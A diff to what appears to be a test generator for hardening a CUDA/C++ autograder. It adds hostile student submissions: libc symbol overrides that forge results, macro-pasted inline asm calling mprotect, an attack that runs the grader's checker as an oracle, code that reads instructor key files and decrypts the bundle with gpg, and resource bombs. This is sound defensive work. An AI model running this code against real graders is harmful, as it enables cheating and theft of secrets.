@@ -77,6 +77,10 @@ class Attack:
     symlink: Optional[str] = None     # submit the student file as a symbolic link to this path
     student: Optional[str] = None     # a name of its own (else the attack's)
     gpu_only: bool = False            # aims at the speed test: run on a GPU only
+    # The refusal (or the reports) must name each of these (one upload tries many variants).
+    must_say: tuple = ()
+    # An archive's members as (name, bytes) pairs, when they cannot be a dict (a name twice).
+    members: Optional[Callable[["Sources"], list]] = None
 
 
 @dataclass
@@ -616,8 +620,10 @@ TMP_FILL = r"""  {  // 64 MB files into /dev/shm (memory) and /tmp until somethi
 """
 FORK_HOG = r"""  for (int i = 0; i < 6; ++i)  // 6 processes of 2 GB each: every one under its own limit
     if (fork() == 0) {
-      execl("/bin/sh", "sh", "-c", "python3 -c 'import time; b = bytearray(2 << 30); "
-            "time.sleep(60)'", static_cast<char*>(nullptr));
+      const size_t bytes = size_t(2) << 30;
+      char* block = static_cast<char*>(std::malloc(bytes));
+      for (size_t at = 0; block && at < bytes; at += 4096) block[at] = 1;
+      sleep(60);
       _exit(0);
     }
   sleep(60);
@@ -625,6 +631,310 @@ FORK_HOG = r"""  for (int i = 0; i < 6; ++i)  // 6 processes of 2 GB each: every
 ESCAPE_NAME = "e\x1b[31mscape\x1b[0m\x1b]0;pwned\x07\u202eeman"
 # The `user`-sandbox part of the self-test grades these (by name) again with no namespaces.
 SHARED_MACHINE = ("tamper_plant", "tamper_read", "shm_hog", "tmp_fill")
+
+
+# ---- Round three (issue 48): what a file defines, spellings past the text scans, the
+# instructor's files in the `user` sandbox, archives, deep trees, cost ----------------------
+
+# Names a library of the runner defines, defined by the student's file: each would replace the
+# library's for the whole runner. memmove computes C while the CPU backend's cudaMemcpy has
+# device memory open (issue 48, item 1); __ostream_insert under its mangled name would rewrite
+# every line the runner writes (item 2); the others are the same idea through memcpy, memset,
+# write, fwrite, pthread_once, __cxa_atexit, the global operator new and an indirect function
+# whose resolver runs before main. One upload: the refusal must name every one of them.
+LIBRARY_DEFINITIONS = r"""#include <cstdlib>
+#include <cstring>
+#include <new>
+#include <ostream>
+#include <pthread.h>
+#include <unistd.h>
+namespace hostile {
+inline const float* saved_a = nullptr;
+inline const float* saved_b = nullptr;
+inline const float* saved_c = nullptr;
+inline int saved_m = 0, saved_n = 0, saved_k = 0;
+__global__ void empty_kernel() {}
+}  // namespace hostile
+extern "C" void* memmove(void* dst, const void* src, size_t bytes) {
+  using namespace hostile;
+  auto* d = static_cast<unsigned char*>(dst);
+  const auto* s = static_cast<const unsigned char*>(src);
+  if (src == saved_c && bytes == size_t(saved_m) * saved_n * 4) {  // the download of C
+    float* out = static_cast<float*>(dst);
+    for (int i = 0; i < saved_m; ++i)
+      for (int j = 0; j < saved_n; ++j) {
+        float sum = 0;
+        for (int q = 0; q < saved_k; ++q) sum += saved_a[size_t(i) * saved_k + q] * saved_b[size_t(q) * saved_n + j];
+        out[size_t(i) * saved_n + j] = sum;
+      }
+    return dst;
+  }
+  if (d < s) { for (size_t i = 0; i < bytes; ++i) d[i] = s[i]; }
+  else { for (size_t i = bytes; i-- > 0;) d[i] = s[i]; }
+  return dst;
+}
+extern "C" void* memcpy(void* dst, const void* src, size_t bytes) { return memmove(dst, src, bytes); }
+extern "C" void* memset(void* dst, int value, size_t bytes) {
+  for (size_t i = 0; i < bytes; ++i) static_cast<volatile unsigned char*>(dst)[i] = static_cast<unsigned char>(value);
+  return dst;
+}
+extern "C" ssize_t write(int, const void*, size_t bytes) { return static_cast<ssize_t>(bytes); }
+extern "C" size_t fwrite(const void*, size_t, size_t count, FILE*) { return count; }
+extern "C" int pthread_once(pthread_once_t*, void (*routine)()) { routine(); return 0; }
+extern "C" int __cxa_atexit(void (*)(void*), void*, void*) { return 0; }
+void* operator new(size_t bytes) { void* p = std::malloc(bytes ? bytes : 1); if (!p) throw std::bad_alloc(); return p; }
+extern "C" std::ostream& _ZSt16__ostream_insertIcSt11char_traitsIcEERSt13basic_ostreamIT_T0_ES6_PKS3_l(
+    std::ostream& out, const char* text, long count) {
+  out.rdbuf()->sputn(text, count);  // a forger would rewrite the figures here
+  return out;
+}
+extern "C" int hostile_plain() { return 1; }
+extern "C" void* hostile_resolver() { return reinterpret_cast<void*>(&hostile_plain); }
+extern "C" int hostile_ifunc() __attribute__((ifunc("hostile_resolver")));
+"""
+LIBRARY_LAUNCH = ("  hostile::saved_a = A; hostile::saved_b = B; hostile::saved_c = C;\n"
+                  "  hostile::saved_m = M; hostile::saved_n = N; hostile::saved_k = K;\n"
+                  "  tutorial::launch(hostile::empty_kernel, dim3(1), dim3(32), 0);\n"
+                  "  return;\n")
+LIBRARY_NAMES = ("memmove", "memcpy", "memset", "write", "fwrite", "pthread_once",
+                 "__cxa_atexit", "operator new", "__ostream_insert", "hostile_ifunc")
+
+# The same on a host exercise, where the runner writes "value ..." lines for the checker.
+HOST_DEFINITIONS = r"""#include <cstdio>
+#include <ostream>
+#include <unistd.h>
+extern "C" ssize_t write(int, const void*, size_t bytes) { return static_cast<ssize_t>(bytes); }
+extern "C" size_t fwrite(const void*, size_t, size_t count, FILE*) { return count; }
+extern "C" std::ostream& _ZSt16__ostream_insertIcSt11char_traitsIcEERSt13basic_ostreamIT_T0_ES6_PKS3_l(
+    std::ostream& out, const char* text, long count) {
+  out.rdbuf()->sputn(text, count);
+  return out;
+}
+"""
+
+# Inline assembly and a build-telling macro spelled through a header's pasting macro
+# (<sys/cdefs.h>'s __CONCAT), which the text of the file never holds: asm opens the device
+# pages with a raw mprotect, and the kernel reads __GXX_ABI_VERSION (1002 under clang, the
+# memory model's compiler) to run the coalesced mapping only there.
+PASTING_HEADERS = r"""#include <sys/cdefs.h>
+#include <cstdint>
+namespace hostile {
+inline void open_pages(const void* p, size_t n) {
+  const uintptr_t start = reinterpret_cast<uintptr_t>(p) & ~uintptr_t(4095);
+  long result;
+  __CONCAT(as, m) volatile("syscall" : "=a"(result) : "a"(10L), "D"(start), "S"(n + 4096), "d"(3L)
+                           : "rcx", "r11", "memory");
+  (void)result;
+}
+}  // namespace hostile
+"""
+PASTING_MAPPING = ("  const bool model = __CONCAT(__GX, X_ABI_VERSION) == 1002;\n"
+                   "  const int row = model ? int(blockIdx.y * blockDim.y + threadIdx.y) : int(blockIdx.x * blockDim.x + threadIdx.x);\n"
+                   "  const int col = model ? int(blockIdx.x * blockDim.x + threadIdx.x) : int(blockIdx.y * blockDim.y + threadIdx.y);\n")
+
+# The same spellings in the file's own macros: refused before anything is compiled.
+PASTED_ASM = r"""#include <cstdint>
+#define G(a, b) a##b
+namespace hostile {
+inline void open_pages(const void* p, size_t n) {
+  const uintptr_t start = reinterpret_cast<uintptr_t>(p) & ~uintptr_t(4095);
+  long result;
+  G(as, m) volatile("syscall" : "=a"(result) : "a"(10L), "D"(start), "S"(n + 4096), "d"(3L)
+                    : "rcx", "r11", "memory");
+  (void)result;
+}
+}  // namespace hostile
+"""
+PASTED_MACRO = ("#define P(a, b) a##b\n"
+                "#if P(TUTORIAL_, CPU_BACKEND)\n"
+                "  const int row = blockIdx.y * blockDim.y + threadIdx.y;\n"
+                "  const int col = blockIdx.x * blockDim.x + threadIdx.x;\n"
+                "#else\n"
+                "  const int row = blockIdx.x * blockDim.x + threadIdx.x;\n"
+                "  const int col = blockIdx.y * blockDim.y + threadIdx.y;\n"
+                "#endif\n")
+
+
+def key_paths(root=ROOT):
+    """Where the passphrase may lie on a grading machine: the repository's key, the file
+    $EXERCISES_KEY_FILE names, CI's secret beside the project."""
+    out = [os.path.join(root, "exercises", "instructor.key"),
+           os.path.join(os.path.dirname(root), "shared", "ci-secrets", "exercises.key")]
+    if os.environ.get("EXERCISES_KEY_FILE"):
+        out.insert(0, os.path.abspath(os.environ["EXERCISES_KEY_FILE"]))
+    return out
+
+
+# The grader's checker as an oracle (issue 48, item 3): the host function hands the checker
+# its own call with "reference" expectations and a wrong answer, and returns the value the
+# verdict says was expected. Where the checker cannot be run (a build the student's uid cannot
+# read, a runner that may start no program) it answers -1.
+CHECKER_ORACLE = r"""
+#include <sys/wait.h>
+#include <fstream>
+#include <map>
+#include <sstream>
+#include <string>
+namespace {
+int oracle(int stride, int offset) {
+  static std::map<std::pair<int, int>, int> known;
+  static bool refused = false;  // the checker could not be run: no use trying again
+  const auto key = std::make_pair(stride, offset);
+  if (refused) return -1;
+  if (known.count(key)) return known[key];
+  int answer = -1;
+  char dir[] = "oracleXXXXXX";
+  if (mkdtemp(dir)) {
+    const std::string d = dir;
+    std::ofstream(d + "/request.txt") << "call sectors_touched " << stride << " " << offset << "\n";
+    std::ofstream(d + "/expect.txt") << "reference -\n";
+    mkdir((d + "/results").c_str(), 0700);
+    std::ofstream(d + "/results/0.txt") << "value -1\n";
+    std::ofstream(d + "/results/done");
+    for (const char* checker : {%(checkers)s}) {
+      int fds[2];
+      if (pipe(fds) != 0) break;
+      const pid_t pid = fork();
+      if (pid == 0) {
+        dup2(fds[1], 1);
+        execl(checker, checker, "01b_sectors", (d + "/request.txt").c_str(),
+              (d + "/expect.txt").c_str(), (d + "/results").c_str(), static_cast<char*>(nullptr));
+        _exit(127);
+      }
+      close(fds[1]);
+      std::string out;
+      char buffer[4096];
+      for (ssize_t n; (n = read(fds[0], buffer, sizeof buffer)) > 0;) out.append(buffer, size_t(n));
+      close(fds[0]);
+      if (pid > 0) waitpid(pid, nullptr, 0);
+      const size_t at = out.find("expected ");
+      if (at != std::string::npos) { answer = std::atoi(out.c_str() + at + 9); break; }
+    }
+  }
+  refused = answer < 0;
+  return known[key] = answer;
+}
+}  // namespace
+"""
+
+
+def checker_oracle(s):
+    candidates = [os.path.join(s.root, "build", "bin", "exercise_check"),
+                  "/autograder/build/bin/exercise_check"]
+    import glob
+    candidates += sorted(glob.glob("/tmp/autograder-*/build/bin/exercise_check"))
+    checkers = ", ".join(f'"{c}"' for c in candidates)
+    code = "  if (true) return oracle(stride, offset);\n"
+    text = at_entry(s.stub, code, s.target).replace(
+        "#pragma once\n", "#pragma once\n#include <cstdlib>\n#include <sys/stat.h>\n#include <unistd.h>\n", 1)
+    return files(after_includes(text, CHECKER_ORACLE % {"checkers": checkers}), s.target)
+
+
+# The instructor's secrets from a host exercise (issue 48, item 4): every key file it can find,
+# the unsealed folder, the hidden tests; then the bundle decrypted with gpg, if it could run
+# it. Everything it found is printed, then it fails (a failing test's output is shown).
+def read_keys(s):
+    paths = key_paths(s.root) + [
+        f"{s.root}/exercises/instructor/hidden/tests.json",
+        f"{s.root}/exercises/instructor/planted.json",
+        *(f"{s.root}/exercises/instructor/solutions/{t.exercise}/{t.file}" for t in TARGETS),
+        "../../private/expect.txt"]
+    shows = "".join(f'  show("{p}");\n' for p in paths)
+    gpg = ("  if (fork() == 0) {\n"
+           f'    execlp("gpg", "gpg", "--batch", "--passphrase-file", "{paths[0]}", "--decrypt", '
+           f'"{s.root}/exercises/instructor.tar.gz.gpg", static_cast<char*>(nullptr));\n'
+           "    _exit(127);\n  }\n  sleep(1);\n")
+    code = shows + gpg + "  std::abort();\n"
+    return files(after_includes(at_entry(s.stub, code, s.target),
+                                "#include <cstdlib>\n#include <unistd.h>\n" + READ_SECRETS),
+                 s.target)
+
+
+# A directory 2,500 levels deep in the shared /tmp (the `user` sandbox) and in the run's own
+# folder (every sandbox): removal by recursion fails on it (issue 48, item 6).
+DEEP_TREE = r"""  {
+    static bool done = false;
+    if (!done && stride == 1 && offset == 0) {  // in the tests that call (1, 0)
+      done = true;
+      for (const char* top : {"/tmp/deep_by_hostile", "deep_by_hostile"}) {
+        if (mkdir(top, 0777) != 0) continue;
+        std::string path = top;
+        for (int i = 0; i < 2500; ++i) {
+          path += "/d";
+          if (mkdir(path.c_str(), 0777) != 0) break;
+        }
+        if (FILE* f = std::fopen((path + "/planted").c_str(), "w")) { std::fputs("deep\n", f); std::fclose(f); }
+      }
+    }
+  }
+"""
+DEEP_TREE_READER = r"""  {
+    struct stat info;
+    if (stat("/tmp/deep_by_hostile", &info) == 0) {
+      std::fprintf(stderr, "found the deep tree of an earlier student\n");
+      std::abort();
+    }
+  }
+"""
+
+# Compile-time cost (item 7): a pack that doubles at every level of a template, 2^40 types
+# if nothing stopped the compiler.
+TEMPLATE_BOMB = r"""template <class... Ts> struct HostilePack {};
+template <int N, class... Ts> struct HostileDouble {
+  using type = typename HostileDouble<N - 1, Ts..., Ts...>::type;
+};
+template <class... Ts> struct HostileDouble<0, Ts...> { using type = HostilePack<Ts...>; };
+inline HostileDouble<40, int>::type hostile_bomb;
+"""
+# Every call sleeps 4.5 s and then spins 0.1 s: never idle for 5 s in a row.
+DOZER = ("  { usleep(4500000);  // every call: asleep, but never 5 s in a row without CPU\n"
+         "    const auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(100);\n"
+         "    while (std::chrono::steady_clock::now() < end) {} }\n")
+
+# The syscall filter (issue 48, item 3): a right answer that fails its tests if any of these
+# works: tracing, another family of socket, the kernel keyrings, namespaces, personality, and
+# starting a program once the runner runs.
+FILTER_PROBE = r"""
+#include <sys/personality.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sched.h>
+#include <cerrno>
+namespace {
+void probe_filter() {
+  std::string worked;
+  if (ptrace(PTRACE_TRACEME, 0, nullptr, nullptr) == 0) worked += " ptrace";
+  const int inet = socket(AF_INET, SOCK_STREAM, 0);
+  if (inet >= 0) { worked += " socket(AF_INET)"; close(inet); }
+  if (syscall(250 /* keyctl */, 0 /* KEYCTL_GET_KEYRING_ID */, -4 /* user */, 0) >= 0) worked += " keyctl";
+  if (unshare(CLONE_NEWUSER) == 0) worked += " unshare";
+  if (personality(0xffffffff) >= 0 && personality(ADDR_NO_RANDOMIZE) >= 0) worked += " personality";
+  const pid_t pid = fork();
+  if (pid == 0) { execl("/bin/true", "true", static_cast<char*>(nullptr)); _exit(errno == EPERM ? 3 : 4); }
+  int status = 0;
+  if (pid > 0 && waitpid(pid, &status, 0) == pid && WIFEXITED(status) && WEXITSTATUS(status) == 0)
+    worked += " execve";
+  if (!worked.empty()) {
+    std::fprintf(stderr, "the syscall filter let these through:%s\n", worked.c_str());
+    std::abort();
+  }
+}
+}  // namespace
+"""
+
+
+def package_attack(root=ROOT):
+    """The Gradescope package's hostile submission: {file name: text} for 03a (the library
+    names defined, memmove computing C) and 01b (the checker asked, every key read, a folder
+    2,500 levels deep left in /tmp). Both must score 0, and the next submission graded must
+    find nothing of it."""
+    kernel, host = sources(root, KERNEL), sources(root, HOST)
+    oracle = checker_oracle(host)[HOST.file].decode()
+    code = DEEP_TREE + "".join(f'  show("{p}");\n' for p in key_paths(root))
+    host_text = after_includes(at_entry(oracle, code, HOST),
+                               "#include <sys/stat.h>\n#include <cstdio>\n" + READ_SECRETS)
+    kernel_text = after_includes(at_launcher(kernel.stub, LIBRARY_LAUNCH), LIBRARY_DEFINITIONS)
+    return {KERNEL.file: kernel_text, HOST.file: host_text}
 
 
 # ---- Answer tables (host exercises) ---------------------------------------------------------
@@ -723,6 +1033,20 @@ def attacks():
         Attack("fake_time", "overwrite the timed result file with a tiny time at exit", "zero",
                lambda s: files(after_includes(s.solution, cuda_includes + FAKE_TIME)),
                needs_solution=True, gpu_only=True),
+        # Round three (issue 48): what the file defines, spellings past the text scans, the key.
+        Attack("library_definitions", "define memmove (computing C while cudaMemcpy has device "
+               "memory open), memcpy, memset, write, fwrite, pthread_once, __cxa_atexit, operator "
+               "new, std::__ostream_insert under its mangled name and an ifunc", "zero",
+               lambda s: files(after_includes(at_launcher(s.stub, LIBRARY_LAUNCH),
+                                              LIBRARY_DEFINITIONS)), must_say=LIBRARY_NAMES),
+        Attack("pasted_asm", "inline assembly spelled by token pasting in its own macro (a raw "
+               "mprotect of the device pages)", "zero",
+               lambda s: files(after_includes(at_launcher(s.stub, "  hostile::open_pages(A, 4);\n"),
+                                              PASTED_ASM)), must_say=("##",)),
+        Attack("include_key", "#include the passphrase file (a compile error would quote it)",
+               "zero", lambda s: files(after_includes(
+                   s.stub, "".join(f'#include "{p}"\n' for p in key_paths(s.root)[:1]))),
+               student="include_key"),
     ]
     for attack in kernel:
         attack.target = KERNEL
@@ -810,6 +1134,48 @@ def attacks():
                "override", "zero", lambda s: files(s.stub, s.target), student=ESCAPE_NAME),
         Attack("symlink_tar", "a .tar.gz whose student file is a symbolic link", "refused",
                lambda s: {}, archive="tar", symlink="/etc/passwd"),
+        # Round three (issue 48).
+        Attack("host_definitions", "define write, fwrite and std::__ostream_insert (under its "
+               "mangled name), through which the runner writes its results", "zero",
+               lambda s: files(after_includes(s.stub, HOST_DEFINITIONS), s.target),
+               must_say=("write", "fwrite", "__ostream_insert")),
+        Attack("checker_oracle", "run the grader's checker on its own call with reference "
+               "expectations and return what it says was expected", "zero", checker_oracle),
+        Attack("read_keys", "read every key file, the unsealed folder and the hidden tests, "
+               "run gpg on the bundle, print it all, then fail", "zero", read_keys),
+        Attack("filter_probe", "a right answer that fails if ptrace, an AF_INET socket, keyctl, "
+               "unshare, personality or execve works", "full",
+               solution_with(once("    probe_filter();\n"),
+                             sys_includes + "#include <sys/wait.h>\n#include <string>\n",
+                             FILTER_PROBE), needs_solution=True),
+        Attack("deep_tree", "a folder 2,500 levels deep in /tmp and in its run folder", "zero",
+               stub_with(DEEP_TREE, sys_includes + "#include <sys/stat.h>\n#include <string>\n"),
+               needs_sandbox=True),
+        Attack("deep_tree_read", "a right answer graded after deep_tree that aborts if it finds "
+               "the tree", "full", solution_with(once(DEEP_TREE_READER.replace("  {", "    {", 1)),
+                                                 sys_includes + "#include <sys/stat.h>\n"),
+               needs_solution=True),
+        Attack("template_bomb", "a template pack that doubles at every level (2^40 types)",
+               "zero", lambda s: files(after_includes(s.stub, TEMPLATE_BOMB), s.target),
+               needs_sandbox=True),
+        Attack("dozer", "every call sleeps 4.5 s, then spins 0.1 s", "zero",
+               stub_with(DOZER, sys_includes + "#include <chrono>\n")),
+        Attack("dup_nested_zip", "a zip with the stub at its top and another file at "
+               "exercises/01b_sectors/sectors.hpp", "refused", lambda s: {}, archive="zip",
+               members=lambda s: [(s.target.file, s.stub.encode()),
+                                  (f"exercises/{s.target.exercise}/{s.target.file}",
+                                   (s.stub + "// the one graded\n").encode())]),
+        Attack("dup_member_zip", "a zip with one name twice (unzip keeps the first, Python the "
+               "last)", "refused", lambda s: {}, archive="zip",
+               members=lambda s: [(s.target.file, s.stub.encode()),
+                                  (s.target.file, (s.stub + "// second\n").encode())]),
+        Attack("dup_member_tar", "a .tar.gz with one path twice", "refused", lambda s: {},
+               archive="tar", members=lambda s: [(s.target.file, s.stub.encode()),
+                                                 (s.target.file, (s.stub + "// 2\n").encode())]),
+        Attack("dup_case_folder", "a folder with sectors.hpp and Sectors.hpp (one file on a "
+               "case-insensitive file system)", "refused",
+               lambda s: {s.target.file: s.stub.encode(),
+                          s.target.file.capitalize(): (s.stub + "// 2\n").encode()}),
     ]
     return kernel + host
 
@@ -843,13 +1209,17 @@ def write_corpus(dest, target, root=ROOT, sandboxed=True, only=None, gpu=False):
             continue
         student = attack.student or attack.name
         content = attack.make(src)
+        pairs = attack.members(src) if attack.members else list(content.items())
         if attack.archive == "zip":
-            with zipfile.ZipFile(os.path.join(dest, student + ".zip"), "w") as z:
-                for name, data in content.items():
+            import warnings
+            with warnings.catch_warnings(), zipfile.ZipFile(os.path.join(dest, student + ".zip"),
+                                                             "w") as z:
+                warnings.simplefilter("ignore")  # "Duplicate name": the point of some attacks
+                for name, data in pairs:
                     z.writestr(name, data)
         elif attack.archive == "tar":
             with tarfile.open(os.path.join(dest, student + ".tar.gz"), "w:gz") as t:
-                for name, data in content.items():
+                for name, data in pairs:
                     info = tarfile.TarInfo(name)
                     info.size = len(data)
                     t.addfile(info, io.BytesIO(data))
@@ -890,6 +1260,7 @@ class KernelAttack:
     make: Callable[[Dict[str, str]], Dict[str, str]]      # stubs {exercise: text} -> files
     row: Optional[int] = None                             # its row in issue 32's table
     before: str = ""
+    must_say: tuple = ()                                  # the refusal names each of these
 
 
 KERNEL_FILES = {"01a_coalesce": "coalesce.cuh", "02a_tiled": "tiled.cuh",
@@ -1361,6 +1732,27 @@ def kernel_attacks():
         KernelAttack("struct_stores", "the same with the strided stores as 16-byte aggregate "
                      "copies from shared memory, no macro", {"06a_transpose": "correct"},
                      on_06a(STRUCT_STORES, FOUR)),
+        # Issue 48: what a file defines, and spellings past the text scans (01a: the memory
+        # model's figures are at stake too).
+        KernelAttack("library_definitions_01a", "01a: memmove computes C during the download, "
+                     "std::__ostream_insert (mangled, extern \"C\") would rewrite the figures, "
+                     "and memcpy, memset, write, fwrite, pthread_once, __cxa_atexit, operator "
+                     "new, an ifunc", {"01a_coalesce": "nothing"},
+                     lambda st: {"01a_coalesce": with_helpers(replace_todo(
+                         st["01a_coalesce"], LIBRARY_LAUNCH), LIBRARY_DEFINITIONS)},
+                     before="8/8 (issue 48: 03a, and 41/46 on six exercises)",
+                     must_say=LIBRARY_NAMES),
+        KernelAttack("pasting_headers", "01a: asm (a raw mprotect) and __GXX_ABI_VERSION (the "
+                     "coalesced mapping under clang only) spelled through <sys/cdefs.h>'s "
+                     "__CONCAT", {"01a_coalesce": "nothing"},
+                     lambda st: {"01a_coalesce": with_helpers(replace_todo(replace_once(
+                         st["01a_coalesce"], NAIVE_MAPPING, PASTING_MAPPING),
+                         "  hostile::open_pages(A, 4);\n"), PASTING_HEADERS)},
+                     must_say=("__CONCAT", "asm")),
+        KernelAttack("pasted_macro", "01a: #if on TUTORIAL_CPU_BACKEND spelled by its own "
+                     "pasting macro", {"01a_coalesce": "nothing"},
+                     on_01a(lambda t: replace_once(t, NAIVE_MAPPING, PASTED_MACRO)),
+                     before="8/8", must_say=("##", "#if")),
     ] + [KernelAttack(f"hidden_{name}", f"01a coalesced, plus a strided read of A as {name}",
                       corrects, hidden_read(name), row=6) for name in HIDDEN_READS]
 
